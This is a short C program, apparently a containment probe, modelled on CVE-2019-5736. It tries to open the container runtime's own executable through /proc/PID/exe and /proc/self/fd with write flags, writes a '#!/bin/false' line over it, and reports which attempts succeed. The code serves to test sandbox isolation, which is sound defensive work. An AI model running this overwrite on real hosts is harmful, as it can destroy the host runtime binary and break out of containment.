// self-exe PID: what a guest does that wants the runtime's executable for itself (CVE-2019-5736). It opens /proc/PID/exe,
// again for writing, and through every other way that there is, and prints what it reached.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void try(const char *path, int flags) {
    int fd = open(path, flags);
    if (fd < 0) {
        printf("%s flags %o: %s\n", path, flags, strerror(errno));
        return;
    }
    ssize_t written = write(fd, "#!/bin/false\n", 13);
    printf("%s flags %o: %s\n", path, flags, written == 13 ? "WRITTEN" : strerror(errno));
    close(fd);
}

int main(int argc, char **argv) {
    const char *pid = argc > 1 ? argv[1] : "self";
    char path[64], again[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    try(path, O_WRONLY);
    try(path, O_RDWR);
    try(path, O_WRONLY | O_TRUNC);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("%s: %s\n", path, strerror(errno));
        return 0;
    }
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    try(again, O_WRONLY);
    try(again, O_RDWR | O_TRUNC);
    return 0;
}
